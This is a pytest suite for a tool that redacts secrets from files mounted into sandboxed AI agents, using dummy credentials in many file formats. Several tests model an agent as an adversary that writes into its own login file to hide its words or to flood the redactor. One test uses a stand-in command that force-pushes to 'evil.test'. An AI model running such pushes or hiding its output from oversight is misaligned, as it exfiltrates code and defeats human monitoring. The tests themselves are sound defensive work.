"""Secrets in files that agents are shown: known whole, and known anew once they are renewed."""

from __future__ import annotations

import json
import os
import time
from collections.abc import Callable
from pathlib import Path

import pytest

from config.mounted import Mounted
from config.secretfiles import LARGEST, LARGEST_IN_FOLDER
from core.model import Agent, Mount
from core.redaction import Redactor

OLD, NEW = "oldsecretvalue-123456", "newsecretvalue-987654"


def agent(source: Path, *, writable: bool = False) -> Agent:
    return Agent("a", driver="command", sandbox="bubblewrap",
                 mounts=(Mount(source, "~/held", writable),))


def redactor(source: Path, *, writable: bool = False) -> Redactor:
    made = Redactor()
    made.follow(Mounted([agent(source, writable=writable)], pause=0.0))
    return made


def until(ready: Callable[[], bool]) -> None:
    """What isn't come to in one look is at a later one."""
    deadline = time.monotonic() + 30
    while not ready():
        assert time.monotonic() < deadline


@pytest.mark.parametrize("writable", [False, True])
def test_what_is_renewed_in_a_file_is_known_before_it_is_shown(
        tmp_path: Path, writable: bool) -> None:
    file = tmp_path / "auth.json"
    file.write_text(json.dumps({"k": OLD}))
    clean = redactor(file, writable=writable)
    assert clean.text(f"{OLD} {NEW}") == f"[redacted] {NEW}"
    file.write_text(json.dumps({"k": NEW}))
    assert clean.text(f"{OLD} {NEW}") == "[redacted] [redacted]"
    assert {OLD, NEW} <= clean.secrets
    stream = clean.stream()
    file.write_text(json.dumps({"k": "thirdsecretvalue-5"}))
    assert stream.feed(f"{OLD} thirdsecretvalue-5\n") + stream.close() == "[redacted] [redacted]\n"


def test_one_of_the_same_size_and_time_is_seen_too(tmp_path: Path) -> None:
    file = tmp_path / "auth"
    file.write_text(OLD)
    clean, before = redactor(file), file.stat()
    file.write_text(NEW)
    os.utime(file, ns=(before.st_atime_ns, before.st_mtime_ns))
    assert clean.text(NEW) == "[redacted]"


def test_one_that_is_put_in_the_place_of_the_other_is_seen(tmp_path: Path) -> None:
    file = tmp_path / "auth"
    file.write_text(OLD)
    clean = redactor(file)
    (tmp_path / "draft").write_text(NEW)
    os.replace(tmp_path / "draft", file)
    assert clean.text(NEW) == "[redacted]"


def test_a_large_file_is_read_whole(tmp_path: Path) -> None:
    file = tmp_path / "big.json"
    file.write_text(json.dumps({"pad": "x y " * 20_000, "k": OLD}))
    assert redactor(file).text(OLD) == "[redacted]"
    assert Mounted([agent(file)]).unread() == []


@pytest.mark.parametrize("held, said, shown", [
    ("machine git.test login una password zebra-9x\n", "una: zebra-9x", "una: [redacted]"),
    ("https://una:s3cr3t@git.test\n", "s3cr3t for git.test", "[redacted] for git.test"),
    ("[db]\npassword = blue42sky\n", "[db] blue42sky", "[db] [redacted]"),
    ("db.test:5432:shop:una:Tr0ub4dor\n", "shop una Tr0ub4dor", "shop una [redacted]"),
    ("user:\n  token: abc-123 # mine\n", "abc-123 mine", "[redacted] mine"),
    ("//npm.test/:_authToken=npm_a1\n", "at npm.test npm_a1", "at npm.test [redacted]"),
    ("export DB_PASSWORD='correct horse'\n", "a correct horse", "a [redacted]"),
    ("Authorization: Bearer abc99\n", "Bearer abc99", "Bearer [redacted]"),
    ('{"auths": {"x": {"auth": "dW5hOmh1bnRlcjI="}}}', "una:hunter2", "una:[redacted]"),
    ('{"db": {"password": "blue42"}}', "blue42", "[redacted]"),
    ("machine a.test login token password x-y-z\n", "password of a token", "password of a token"),
    ("use_token = true\n", "that is true", "that is true"),
])
def test_secrets_are_known_in_the_files_in_which_programs_keep_them(
        tmp_path: Path, held: str, said: str, shown: str) -> None:
    (tmp_path / "held").write_text(held)
    assert redactor(tmp_path / "held").text(said) == shown


def _large(path: Path) -> None:
    path.write_text("x y\n" * 100_000 + f"api_key = {OLD}\n")


def _too_large(path: Path) -> None:
    path.write_text("x y\n" * (LARGEST // 4) + OLD)


def _no_text(path: Path) -> None:
    path.write_bytes(b"\xff\xfe" + OLD.encode())


def _too_many(path: Path) -> None:
    path.write_text("".join(f"value-number-{n}\n" for n in range(1000)))


@pytest.mark.parametrize("write, why", [
    (_large, "has more than 256 KiB: only what is named as a key is known of it"),
    (_too_large, "has more than 1 MiB"), (_no_text, "is no text"),
    (_too_many, "holds more than 500 values: only those named as keys are known"),
])
def test_what_cant_be_read_for_secrets_is_told(
        tmp_path: Path, write: Callable[[Path], None], why: str) -> None:
    file = tmp_path / "held"
    write(file)
    assert Mounted([agent(file)]).unread() == [f"{file} {why}"]


def test_a_folder_with_very_many_files_is_told(tmp_path: Path) -> None:
    for number in range(201):
        (tmp_path / f"{number}").write_text("words")
    assert Mounted([agent(tmp_path)]).unread() == [
        f"{tmp_path} holds more than 200 files: only those are looked at"]


def test_an_agent_hides_no_words_of_its_own_by_writing_them_into_its_login(
        tmp_path: Path) -> None:
    file = tmp_path / "auth.json"
    file.write_text(json.dumps({"k": OLD}))
    clean = redactor(file, writable=True)
    file.write_text(json.dumps({"k": NEW, "a": "--force-with-lease", "b": "https://evil.test/x1y2"}))
    words = "git push --force-with-lease https://evil.test/x1y2"
    assert clean.text(words) == words
    assert clean.text(NEW) == "[redacted]"


@pytest.mark.parametrize("held", ["[" * 100_000, "PRIVATE KEY" + "x" * 500_000, "\0" * 1000, ""])
def test_nothing_that_an_agent_writes_there_stops_us(tmp_path: Path, held: str) -> None:
    file = tmp_path / "auth.json"
    file.write_text(OLD)
    clean = redactor(file, writable=True)
    file.write_text(held)
    assert clean.text(f"{OLD} is known") == "[redacted] is known"
    file.unlink()
    assert clean.text(f"{OLD} is known") == "[redacted] is known"


def test_a_flood_of_values_is_bounded_and_pushes_out_nothing_that_was_given(
        tmp_path: Path) -> None:
    file = tmp_path / "auth"
    file.write_text(OLD)
    clean = redactor(file, writable=True)
    for turn in range(4):
        file.write_text("".join(f"secretvalue-{turn}-{n:05}\n" for n in range(400)))
        clean.text("x")
    assert len(clean.secrets) <= 201 and OLD in clean.secrets


def test_in_a_folder_what_is_new_is_found_and_a_pipe_or_link_is_passed_over(
        tmp_path: Path) -> None:
    folder = tmp_path / "held"
    folder.mkdir()
    (folder / "a.env").write_text(f"API_KEY={OLD}\nNAME=anordinaryvalue1\n")
    clean = redactor(folder, writable=True)
    os.mkfifo(folder / "pipe")
    (tmp_path / "elsewhere").write_text("API_KEY=secretelsewhere-77\n")
    (folder / "link").symlink_to(tmp_path / "elsewhere")
    (folder / "b.env").write_text(f"API_KEY={NEW}\n")
    assert clean.text(f"{OLD} {NEW} anordinaryvalue1 secretelsewhere-77") == (
        "[redacted] [redacted] anordinaryvalue1 secretelsewhere-77")


def _flood(folder: Path, files: int, turn: int) -> None:
    """As an agent may write it: as much in each file as is looked at."""
    for number in range(files):
        key = "".join(f"api_key=q{turn}w{number:03}e{n:03}rtyuiop\n" for n in range(60))
        lines = "x: y\n" * ((LARGEST_IN_FOLDER - len(key)) // 5)
        (folder / f"{number}.env").write_text(key + lines)


def test_an_agent_that_writes_very_much_takes_neither_the_time_nor_the_room(
        tmp_path: Path) -> None:
    theirs, other = tmp_path / "theirs", tmp_path / "zlogin"
    theirs.mkdir()
    other.write_text(OLD)
    (theirs / "own.env").write_text(f"API_KEY={OLD}-2\n")
    made = Mounted([agent(theirs, writable=True), agent(other, writable=True)], pause=0.0)
    clean = Redactor()
    clean.follow(made)
    for turn in range(3):
        _flood(theirs, 190, turn)
        known = clean.secrets
        clean.text("a line")
        new = {value for value in clean.secrets - known if value.startswith(f"q{turn}")}
        assert len(new) < 190 * 60 / 2, "what one look can't come to waits for the next"
    other.write_text(NEW)
    until(lambda: clean.text(NEW) == "[redacted]")
    assert len(clean.secrets) <= 103
    assert clean.text(f"{OLD} {OLD}-2") == "[redacted] [redacted]"


def test_files_that_are_gone_make_room_for_new_ones(tmp_path: Path) -> None:
    clean = redactor(tmp_path, writable=True)
    for turn in range(3):
        for number in range(150):
            (tmp_path / f"{turn}-{number}").write_text("words")
        clean.text("a line")
        for path in tmp_path.iterdir():
            path.unlink()
    (tmp_path / "b.env").write_text(f"API_KEY={NEW}\n")
    until(lambda: clean.text(NEW) == "[redacted]")


@pytest.mark.parametrize("files, size, why", [
    (1, LARGEST_IN_FOLDER + 1, "files of more than 64 KiB: they are not looked at"),
    (40, LARGEST_IN_FOLDER, "files of more than 2 MiB: only so much is looked at"),
])
def test_what_is_too_much_in_a_folder_is_told(
        tmp_path: Path, files: int, size: int, why: str) -> None:
    for number in range(files):
        (tmp_path / f"{number}").write_text("w" * size)
    assert Mounted([agent(tmp_path)]).unread() == [f"{tmp_path} holds {why}"]


def test_what_one_source_told_stays_known_after_the_next(tmp_path: Path) -> None:
    file = tmp_path / "auth"
    file.write_text(OLD)
    clean = redactor(file)
    file.write_text(NEW)
    assert clean.text(NEW) == "[redacted]"
    clean.follow(Mounted([]))
    assert clean.text(f"{OLD} {NEW}") == "[redacted] [redacted]"
